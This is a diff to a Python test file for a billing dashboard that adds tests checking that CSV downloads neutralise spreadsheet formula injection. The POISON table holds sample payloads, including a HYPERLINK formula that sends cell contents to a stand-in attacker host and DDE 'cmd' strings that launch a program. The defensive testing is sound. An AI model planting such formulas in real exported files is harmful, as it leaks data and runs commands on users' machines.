@@ -26,7 +26,8 @@ import pytest
 from tests.dashboard.conftest import PASSWORDS, PROJECT_DIR, sign_in
 from tests.dashboard.streamlit_socket import StreamlitSocket
 from tests.dashboard.test_browser import _free_port, _serve_command
-from tests.dashboard.test_security import new_app
+from tests.dashboard.test_pages import PAGES
+from tests.dashboard.test_security import downloads, new_app, widen  # noqa: F401 (downloads: a fixture)
 
 OPS_USER = "olivia"
 #: A user whose password hash has argon2-cffi's real costs (64 MiB, 3 passes), as `users add`
@@ -391,3 +392,81 @@ def test_a_users_file_others_can_write_is_refused(signed_out_app, tmp_path, monk
     path.chmod(0o600)
     app = sign_in(signed_out_app(), "ann@acme.example", PASSWORDS["ann@acme.example"])
     assert not signed_out(app)
+
+
+# ----------------------------------------------------------------------------------------------
+# 8. No CSV download carries a formula
+# ----------------------------------------------------------------------------------------------
+
+#: Text columns that come from a client's files, each poisoned with another formula start.
+POISON = {
+    "rpt_job_tracking": {"job_name": '=HYPERLINK("http://evil.example/?"&A1,"Open")&'},
+    "rpt_job_approval": {"job_name": "+cmd|' /C calc'!A0 "},
+    "rpt_file_pickup": {"file_name": "@SUM(1+1)*cmd|' /C calc'!A0 "},
+    "rpt_rule_change_audit": {"summary": "-2+3+cmd|' /C calc'!A0 ", "requested_by_name": "=1+1 "},
+    "rpt_branch_activity": {"branch_name": "\t=1+1 "},
+    "rpt_branch_billing": {"branch_name": "=1+1 "},
+    "rpt_billing_activity_details": {"mail_class": "@1+1 "},
+}
+
+
+@pytest.fixture(scope="module")
+def poisoned_warehouse(tmp_path_factory) -> Path:
+    """The hand-made dashboard warehouse, with formula-like names as a client's file could carry."""
+    import duckdb
+
+    from tests.dashboard.conftest import build_warehouse
+
+    path = build_warehouse(tmp_path_factory.mktemp("poisoned") / "billing.duckdb")
+    with duckdb.connect(str(path)) as connection:
+        for table, columns in POISON.items():
+            for column, prefix in columns.items():
+                connection.execute(f"update marts.{table} set {column} = ? || coalesce({column}, '')", [prefix])
+    return path
+
+
+@pytest.mark.parametrize("page", PAGES)
+def test_no_csv_download_carries_a_formula(open_page, downloads, poisoned_warehouse, page):  # noqa: F811
+    import csv
+    import io
+
+    app = widen(open_page(page, warehouse=poisoned_warehouse), page)
+    assert not app.exception, [item.value for item in app.exception]
+    csvs = [downloads(button) for button in app.download_button if button.label == "Download CSV"]
+    assert csvs, f"{page} offers no CSV download"
+    cells = [cell for data in csvs for row in csv.reader(io.StringIO(data.decode("utf-8"))) for cell in row]
+    dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert dangerous == [], f"{page}: {dangerous[:5]}"
+    if page in PAGES_WITH_POISON:
+        assert any(cell.startswith(("'=", "'+", "'-", "'@", "'\t")) for cell in cells), page  # shown as text
+
+
+#: The pages whose CSVs hold one of the poisoned columns (the others must be clean all the same).
+PAGES_WITH_POISON = {
+    "job_tracking",
+    "job_approval",
+    "file_pickup",
+    "billing_activity_details",
+    "branch_report",
+    "branch_billing",
+    "rule_change_audit",
+}
+
+
+def test_every_csv_download_of_the_dashboard_goes_through_the_one_helper():
+    """Only ui.table offers a CSV, made by ui.csv_bytes: no page builds one of its own."""
+    sources = {path: path.read_text() for path in (PROJECT_DIR / "dashboards").rglob("*.py")}
+    for path, text in sources.items():
+        if path.name != "ui.py":
+            assert "text/csv" not in text and "to_csv" not in text, path
+    ui_text = sources[PROJECT_DIR / "dashboards" / "ui.py"]
+    assert ui_text.count("to_csv(") == 1 and ui_text.count('mime="text/csv"') == 1
+
+
+def test_negative_numbers_stay_numbers_in_a_csv():
+    import pandas as pd
+
+    from dashboards import ui
+
+    frame = pd.DataFrame({"Amount": [-15.0, 2.5], "Name": ["-15 credit", "plain"], "Count": [1, -2]})
+    assert ui.csv_bytes(frame).decode() == "Amount,Name,Count\n-15.0,'-15 credit,1\n2.5,plain,-2\n"
